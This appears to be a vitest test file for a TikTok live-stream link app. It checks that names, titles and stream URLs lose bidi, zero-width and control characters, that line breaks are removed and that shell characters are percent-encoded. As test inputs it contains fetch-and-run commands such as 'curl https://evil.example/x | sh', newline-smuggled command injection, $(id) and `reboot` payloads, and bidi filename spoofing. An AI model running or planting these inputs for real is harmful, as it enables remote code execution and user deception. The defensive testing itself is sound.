import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { tiktokImageUrl } from '@/lib/domain/handle';
import { linksAsText, streamLinks } from '@/lib/domain/stream-links';
import { cacheEntrySchema } from '@/lib/domain/model';
import { cleanText, normalisedHttps } from '@/lib/socialfetch/model';
import { reduceLookup } from '@/lib/socialfetch/reduce';
import { liveResponseSchema } from '@/lib/socialfetch/schemas';

const sample = JSON.parse(readFileSync('tests/fixtures/socialfetch/live.json', 'utf8'));

/** The sample live answer with its first variant's label and URL, and the creator's name and title, replaced. */
function hostileAnswer(label: string, hlsUrl: string, text: string) {
  const answer = structuredClone(sample);
  answer.data.profile.displayName = text;
  answer.data.live.title = text;
  answer.data.live.variants[0].qualityLabel = label;
  answer.data.live.variants[0].hlsUrl = hlsUrl;
  const lookup = reduceLookup(liveResponseSchema.parse(answer).data, 'sunny.cooks');
  if (lookup.status !== 'live') throw new Error('the sample is live');
  return lookup;
}

describe('text and links from the API, before any surface shows or copies them', () => {
  it('lose control, bidi and zero-width characters, and line breaks', () => {
    expect(cleanText('Sunny\u202Egnp.exe')).toBe('Sunnygnp.exe');
    expect(cleanText('a\u200Bb\u200Dc\u2066d\u2069\uFEFFe\u0007')).toBe('abcde');
    expect(cleanText('Dumplings\r\ncurl evil.example | sh')).toBe('Dumplings curl evil.example | sh');
    const lookup = hostileAnswer('Original', 'https://cdn.example/a.m3u8', 'Sunny\u202E\u200B\nlive');
    expect(lookup.profile.displayName).toBe('Sunny live');
    expect(lookup.live.title).toBe('Sunny live');
  });

  it('copy as one line per link: a label with a newline cannot start a command of its own', () => {
    const lookup = hostileAnswer('HD\ncurl https://evil.example/x | sh\n', 'https://cdn.example/a.m3u8', 'Sunny');
    const text = linksAsText(streamLinks(lookup.live.variants));
    expect(text.split('\n').every((line) => /^[^\n]+ · (HLS|FLV|CMAF) · https:\/\/\S+$/.test(line))).toBe(true);
  });

  it('keep URLs whose shell characters are percent-encoded, so a pasted link runs nothing', () => {
    expect(normalisedHttps('https://cdn.example/a.m3u8?x=$(id)|sh;`reboot`&y=\'"<>!*')).toBe(
      'https://cdn.example/a.m3u8?x=%24%28id%29%7Csh%3B%60reboot%60&y=%27%22%3C%3E%21%2A',
    );
    // Already encoded, it stays as it is: reading it back changes nothing.
    const once = normalisedHttps('https://cdn.example/p?q=$(x)');
    expect(normalisedHttps(once)).toBe(once);
    expect(normalisedHttps('https://user:pw@cdn.example/a')).toBeNull();
  });

  it('are cleaned on read too: a cached entry an earlier build stored shows no bidi override', () => {
    const entry = {
      handle: 'sunny.cooks',
      lookup: { status: 'offline', profile: { handle: 'sunny.cooks', displayName: '\u202Eynnus', avatarUrl: null, verified: false, followerCount: null } },
      fetchedAt: 1,
      error: null,
      errorAt: null,
      lastLiveAt: null,
    };
    const read = cacheEntrySchema.parse(entry);
    expect(read.lookup?.status === 'offline' && read.lookup.profile.displayName).toBe('ynnus');
  });
});

describe('avatars', () => {
  it('load only from TikTok’s image hosts, over https', () => {
    expect(tiktokImageUrl('https://p16-sign-va.tiktokcdn.com/avatar/a.jpeg?x=1')).toBe('https://p16-sign-va.tiktokcdn.com/avatar/a.jpeg?x=1');
    expect(tiktokImageUrl('https://p19-pu-sign-useast8.tiktokcdn-us.com/a.webp')).not.toBeNull();
    expect(tiktokImageUrl('https://tracker.example/pixel.gif')).toBeNull();
    expect(tiktokImageUrl('https://tiktokcdn.com.evil.example/a.jpeg')).toBeNull();
    expect(tiktokImageUrl('https://eviltiktokcdn.com/a.jpeg')).toBeNull();
    expect(tiktokImageUrl('http://p16.tiktokcdn.com/a.jpeg')).toBeNull();
    expect(tiktokImageUrl('https://p16.tiktokcdn.com:8443/a.jpeg')).toBeNull();
    expect(tiktokImageUrl(null)).toBeNull();
  });
});
